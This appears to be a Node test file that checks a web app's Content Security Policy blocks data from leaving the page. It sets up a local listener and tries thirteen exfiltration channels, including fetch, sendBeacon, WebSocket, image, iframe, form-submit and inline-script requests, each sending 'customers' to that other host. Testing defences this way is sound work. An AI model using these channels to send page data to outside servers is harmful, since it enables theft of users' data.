// Nothing leaves the page: whatever a script in it tried, another server hears of nothing.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, test } from "node:test";
import { launch, openApp, serveRelease } from "./harness.mjs";

const address = await serveRelease();
const heard = [];
const other = createServer((request, response) => {
  heard.push(request.url);
  response.writeHead(200, { "access-control-allow-origin": "*" }).end();
});
await new Promise((resolve) => other.listen(0, "127.0.0.1", resolve));
after(() => new Promise((resolve) => {
  other.close(resolve);
  other.closeAllConnections();
}));
const there = `127.0.0.1:${other.address().port}`;

/** Ways to send something away, each as a script of the page would try it. */
const WAYS = {
  fetch: (there) => fetch(`http://${there}/fetch`, { method: "POST", body: "customers", mode: "no-cors" }),
  request: (there) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = resolve;
    request.open("POST", `http://${there}/request`);
    request.send("customers");
  }),
  beacon: (there) => navigator.sendBeacon(`http://${there}/beacon`, "customers"),
  socket: (there) => new Promise((resolve) => {
    const socket = new WebSocket(`ws://${there}/socket`);
    socket.onopen = socket.onerror = resolve;
  }),
  events: (there) => new Promise((resolve) => {
    new EventSource(`http://${there}/events`).onerror = resolve;
  }),
  image: (there) => new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = resolve;
    image.src = `http://${there}/image?customers`;
  }),
  script: (there) => import(`http://${there}/script.js`),
  frame: (there) => new Promise((resolve) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.onload = resolve;
    frame.src = `http://${there}/frame`;
  }),
  sheet: (there) => new Promise((resolve) => {
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `http://${there}/sheet.css` });
    link.onload = link.onerror = resolve;
    document.head.append(link);
  }),
  prefetch: (there) => new Promise((resolve) => {
    const link = Object.assign(document.createElement("link"), { rel: "prefetch", href: `http://${there}/prefetch` });
    link.onload = link.onerror = resolve;
    document.head.append(link);
  }),
  background: (there) => { document.body.style.backgroundImage = `url(http://${there}/background)`; },
  form: (there) => {
    const form = Object.assign(document.createElement("form"), { action: `http://${there}/form`, method: "post" });
    document.body.append(form);
    form.submit();
  },
  inline: (there) => {
    const script = document.createElement("script");
    script.textContent = `fetch("http://${there}/inline")`;
    document.head.append(script);
  },
};

test("no way leads out of the page", async (t) => {
  const browser = await launch(t, { allow: /Content Security Policy|violates|Failed to load|failed: http:\/\/127|Refused|WebSocket|EventSource|csp/i });
  const page = await openApp(browser, address);
  for (const [name, way] of Object.entries(WAYS)) {
    const tried = page.evaluate(way, there).catch(() => {});
    await Promise.race([tried, page.waitForTimeout(3_000)]);
    assert.deepEqual(heard, [], `${name} was heard`);
  }
  await page.waitForTimeout(200);
  assert.deepEqual(heard, []);
  assert.equal(page.url().startsWith(address), true);
  // What was tried would have been heard without the policy.
  await fetch(`http://${there}/fetch`);
  assert.deepEqual(heard, ["/fetch"]);
});
